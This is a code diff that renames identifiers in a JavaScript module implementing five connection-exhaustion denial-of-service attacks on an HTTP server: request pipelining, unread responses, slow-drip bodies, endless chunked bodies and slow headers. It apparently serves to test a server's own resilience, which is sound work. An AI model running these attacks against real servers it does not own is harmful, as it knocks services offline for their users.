@@ -3,14 +3,14 @@ import { connect } from 'node:net'
 
 /**
  * Attacks on a server's memory without signing in. Each opens this many connections and reopens those that
- * close. `begin` starts one connection and returns a function that stops it.
+ * close. `start` starts one connection and returns a function that stops it.
  */
 export const attacks = {
-  pipelining: { connections: 2, begin: pipeline },
-  unread: { connections: 400, begin: leaveUnread },
-  bodies: { connections: 600, begin: dripBody },
-  pieces: { connections: 100, begin: sendPieces },
-  connections: { connections: 4_000, begin: dripHeaders },
+  pipelining: { connections: 2, start: pipeline },
+  unread: { connections: 400, start: leaveUnread },
+  bodies: { connections: 600, start: dripBody },
+  pieces: { connections: 100, start: sendPieces },
+  connections: { connections: 4_000, start: dripHeaders },
 }
 
 const host = 'Host: app.example'
@@ -20,17 +20,17 @@ const post = [
   'Origin: https://app.example',
   'Content-Type: application/json',
 ]
-const asText = (...lines) => [...lines, '', ''].join('\r\n')
+const httpHead = (...lines) => [...lines, '', ''].join('\r\n')
 
 /** Session look-ups with random cookies, as fast as the connection accepts them. */
 function pipeline(socket) {
   socket.resume()
-  const look = () => {
+  const lookUpSession = () => {
     const cookie = `Cookie: __Host-countersign_session=${randomBytes(32).toString('base64url')}`
-    return asText('GET /api/session HTTP/1.1', host, cookie)
+    return httpHead('GET /api/session HTTP/1.1', host, cookie)
   }
   const write = () => {
-    while (!socket.destroyed && socket.write(Array.from({ length: 50 }, look).join('')));
+    while (!socket.destroyed && socket.write(Array.from({ length: 50 }, lookUpSession).join('')));
   }
   socket.on('drain', write)
   write()
@@ -40,7 +40,7 @@ function pipeline(socket) {
 /** Large responses that are never read. */
 function leaveUnread(socket) {
   socket.pause()
-  socket.write(asText('GET /large.svg HTTP/1.1', host).repeat(2))
+  socket.write(httpHead('GET /large.svg HTTP/1.1', host).repeat(2))
   // A socket that is not read detects its end only when it is written to.
   const timer = setInterval(() => socket.write('x'), 5_000)
   return () => clearInterval(timer)
@@ -49,7 +49,7 @@ function leaveUnread(socket) {
 /** A body of the maximum length, one byte at a time. */
 function dripBody(socket) {
   socket.resume()
-  socket.write(asText(...post, 'Content-Length: 65000'))
+  socket.write(httpHead(...post, 'Content-Length: 65000'))
   socket.write(' '.repeat(30_000))
   const timer = setInterval(() => socket.write(' '), 20)
   return () => clearInterval(timer)
@@ -58,10 +58,10 @@ function dripBody(socket) {
 /** An endless body in chunks of one byte. */
 function sendPieces(socket) {
   socket.resume()
-  socket.write(asText(...post, 'Transfer-Encoding: chunked'))
-  let left = 60
+  socket.write(httpHead(...post, 'Transfer-Encoding: chunked'))
+  let remaining = 60
   const timer = setInterval(() => {
-    if (left-- > 0) socket.write('1\r\n \r\n'.repeat(1_000))
+    if (remaining-- > 0) socket.write('1\r\n \r\n'.repeat(1_000))
   }, 100)
   return () => clearInterval(timer)
 }
@@ -76,8 +76,8 @@ function dripHeaders(socket) {
 
 /** Starts an attack. Returns its counts and a function that stops it. */
 export function attack(name, port) {
-  const { connections, begin } = attacks[name]
-  const counts = { opened: 0, ended: 0, answers: 0 }
+  const { connections, start } = attacks[name]
+  const counts = { opened: 0, ended: 0, responses: 0 }
   const sockets = new Set()
   let isOver = false
   const open = () => {
@@ -88,10 +88,10 @@ export function attack(name, port) {
     socket.on('error', () => {})
     socket.once('connect', () => {
       counts.opened += 1
-      stop = begin(socket)
+      stop = start(socket)
     })
     socket.on('data', (bytes) => {
-      counts.answers += bytes.toString('latin1').split('HTTP/1.1 ').length - 1
+      counts.responses += bytes.toString('latin1').split('HTTP/1.1 ').length - 1
     })
     socket.once('close', () => {
       stop()
@@ -100,7 +100,7 @@ export function attack(name, port) {
       setTimeout(open, 100)
     })
   }
-  for (let left = connections; left > 0; left -= 1) open()
+  for (let remaining = connections; remaining > 0; remaining -= 1) open()
   return {
     counts,
     held: () => sockets.size,
